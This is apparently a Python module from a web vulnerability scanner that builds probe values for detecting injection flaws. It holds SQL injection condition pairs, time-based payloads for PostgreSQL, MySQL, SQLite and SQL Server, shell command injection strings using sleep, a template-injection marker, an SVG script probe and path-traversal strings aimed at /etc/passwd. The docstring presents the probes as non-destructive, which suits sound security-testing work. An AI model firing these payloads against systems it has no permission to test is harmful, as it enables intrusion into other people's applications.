"""What is sent into a parameter, and how its answer would show that it was taken for code.

Nothing here removes or changes anything where it works: conditions, sleeping, arithmetic, reading
one file that everybody may read. Conditions that widen a query (OR) go to reading operations only,
and so does what would comment out the rest of a statement.
"""

from __future__ import annotations

import re
import secrets
from dataclasses import dataclass

PASSWD = re.compile(r"root:[^:\n]{0,100}:0:0:")
CLIMBS = ("../" * 8 + "etc/passwd", "....//" * 8 + "etc/passwd")
SQLITE_ROWS_PER_S = 12_000_000  # of a counting query, on a machine twice as quick as today's usual


@dataclass(frozen=True)
class Pair:
    """Two values that differ in a condition alone: one that holds and one that does not."""

    how: str
    holds: str
    fails: str


def quotes(value: str) -> tuple[str, str]:
    """A value with one quote, which breaks a query, and with two, which is the text of one."""
    return f"{value}'", f"{value}''"


def pairs(value: str, number: bool, reading: bool) -> list[Pair]:
    """Values whose answers differ when a condition within them is evaluated."""
    a = str(secrets.randbelow(9000) + 1000)
    b = str(int(a) + 1)
    found = [Pair("AND", f"{value}' AND '{a}'='{a}", f"{value}' AND '{a}'='{b}")]
    if number:
        found.append(Pair("AND", f"{value} AND {a}={a}", f"{value} AND {a}={b}"))
    if reading:
        nobody = f"readiness{a}"
        found.append(Pair("OR", f"{nobody}' OR '{a}'='{a}", f"{nobody}' OR '{a}'='{b}"))
        if number:
            found.append(Pair("OR", f"-{a} OR {a}={a}", f"-{a} OR {a}={b}"))
        found.append(
            Pair(
                "OR within LIKE",
                f"{nobody}%' OR '{a}' LIKE '%{a}",
                f"{nobody}%' OR '{a}' LIKE '%{b}",
            )
        )
    return found


def sleeping(value: str, number: bool, reading: bool, seconds: float) -> list[tuple[str, str]]:
    """Values that make a database wait, by its name."""
    s = f"{seconds:g}"
    rows = int(seconds * SQLITE_ROWS_PER_S)
    counting = f"(WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM r WHERE i<{rows}) "
    counting += "SELECT count(*) FROM r)"
    found = [
        ("PostgreSQL", f"{value}'||(SELECT 1 FROM pg_sleep({s}))::text||'"),
        ("MySQL", f"{value}' AND (SELECT 1 FROM (SELECT SLEEP({s}))a) AND '1'='1"),
        ("SQLite", f"{value}'||{counting}||'"),
    ]
    if reading:
        found.append(("SQL Server", f"{value}';WAITFOR DELAY '0:0:{s}'--"))
    if number:
        found.append(("PostgreSQL", f"{value} - (SELECT 0 FROM pg_sleep({s}))"))
        found.append(("MySQL", f"{value} - SLEEP({s})"))
        found.append(("SQLite", f"{value} - {counting}"))
    return found


def commands(value: str, seconds: float) -> list[tuple[str, str]]:
    """Values that make a shell or an interpreter wait."""
    s = f"{seconds:g}"
    return [
        ("shell command", f"{value}$(sleep {s})"),
        ("shell command", f"{value};sleep {s};"),
        ("shell command", f"{value}';sleep {s};'"),
        ("Python expression", f"__import__('time').sleep({s})"),
    ]


def template() -> tuple[str, str]:
    """A value that template engines calculate, and what then stands in the answer."""
    a, b = secrets.randbelow(90_000) + 10_000, secrets.randbelow(90_000) + 10_000
    sum_of = f"{a}*{b}"
    return f"{{{{{sum_of}}}}}${{{sum_of}}}<%={sum_of}%>#{{{sum_of}}}", str(a * b)


def markup() -> tuple[str, str]:
    """A value that would be script in a page, and the part of it that tells."""
    name = f"rdns{secrets.token_hex(4)}"
    told = f"<svg onload={name}>"
    return f"{name}'\"{told}", told
